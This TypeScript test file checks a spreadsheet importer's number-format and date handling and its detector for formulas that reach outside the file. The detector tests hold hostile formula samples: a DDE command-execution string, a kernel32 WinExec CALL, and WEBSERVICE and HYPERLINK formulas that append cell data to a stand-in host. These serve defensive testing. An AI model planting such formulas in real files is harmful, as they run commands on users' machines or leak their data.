// What a number format makes of a number, and which formulas show that a file reaches out of itself.
import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { addDays, dateOnly } from '../../../src-main/kernel/date-only.ts'
import { callsOut, linkAddress } from '../../../src-main/features/imports/reading/formula-safety.ts'
import { builtInShape, formatShape, numberCell } from '../../../src-main/features/imports/reading/number-format.ts'

test.each([
  ['dd/mm/yyyy', 'day'],
  ['[$-421]dd mmmm yyyy;@', 'day'],
  ['d-mmm', 'day'],
  ['mmm\\-yy', 'month'],
  ['mmmm yyyy', 'month'],
  ['"Tahun "yyyy', 'year'],
  ['hh:mm', 'time'],
  ['[h]:mm:ss', 'time'],
  ['General', undefined],
  ['#,##0.00', undefined],
  ['"Rp"#,##0;[Red]-"Rp"#,##0', undefined],
  ['[$Rp-421]* #,##0', undefined],
  ['0" hari"', undefined],
  ['@', undefined],
])('the format %s shows %s', (format, shape) => {
  expect(formatShape(format)).toBe(shape)
})

test('formats named by number are as Excel has them', () => {
  expect([0, 1, 4, 14, 15, 17, 20, 22, 49].map(builtInShape)).toEqual([
    undefined,
    undefined,
    undefined,
    'day',
    'day',
    'month',
    'time',
    'day',
    undefined,
  ])
})

test('serial numbers are days, in both date systems, and nothing else when they lie outside', () => {
  expect([1, 59, 61, 44_605, 44_605.99].map((serial) => numberCell(serial, 'day'))).toEqual(
    ['1900-01-01', '1900-02-28', '1900-03-01', '2022-02-13', '2022-02-13'].map((date) => ({ kind: 'date', date })),
  )
  expect(numberCell(43_143, 'day', true)).toEqual({ kind: 'date', date: '2022-02-13' })
  expect([0, -5, 1e9].map((serial) => numberCell(serial, 'day').kind)).toEqual(['number', 'number', 'number'])
  expect(numberCell(0.354_166_67, 'time')).toEqual({ kind: 'text', text: '08:30' })
  fc.assert(
    fc.property(fc.integer({ min: 61, max: 146_000 }), (serial) => {
      expect(numberCell(serial, 'day')).toEqual({ kind: 'date', date: addDays(dateOnly('1900-03-01'), serial - 61) })
    }),
  )
})

test.each([
  "cmd|'/c calc'!A1",
  'WEBSERVICE("http://contoh.test/"&A1)',
  '_xlfn.WEBSERVICE(A1)',
  'CALL("kernel32","WinExec","JC",A1)',
  'REGISTER.ID("a","b")',
  'EXEC("calc")',
  'RTD("a",,"b")',
  '[1]Lembar1!$A$1',
  "'C:\\data\\[Buku.xlsx]Lembar 1'!A1+1",
  "of:='file:///C:/lain.ods'#$Lembar1.A1",
  'HYPERLINK("http://contoh.test/?x="&A1,"klik")',
  'IMPORTDATA("http://contoh.test")',
])('%s reaches out', (formula) => {
  expect(callsOut(formula)).toBe(true)
})

test.each([
  'SUM(A1:A9)',
  'A1&"|"&B1',
  '"[1]Lembar!A1"',
  'Tabel1[Jumlah]',
  'Tabel1[[#This Row],[2023]]*2',
  '[0]!Nama',
  "'Data 2023'!A1",
  'HYPERLINK("https://contoh.go.id/a?b=1","Lihat")',
  'HYPERLINK(B2,"Lihat")',
  'of:=SUM([.A1:.A9])',
  'of:=[$Lembar1.A1]',
  'RECALL(1)',
])('%s stays in the file', (formula) => {
  expect(callsOut(formula)).toBe(false)
})

test('a formula of any length and shape is judged at once', () => {
  for (const piece of ["'://", '"', '[a]', 'HYPERLINK(', "' ", '""'] as const) {
    const started = performance.now()
    callsOut(piece.repeat(1_000_000))
    expect(performance.now() - started).toBeLessThan(1000)
  }
})

test('the address of a written link is found', () => {
  expect([linkAddress('HYPERLINK("https://contoh.go.id/a","Lihat")'), linkAddress('HYPERLINK(B2,"Lihat")')]).toEqual([
    'https://contoh.go.id/a',
    undefined,
  ])
})
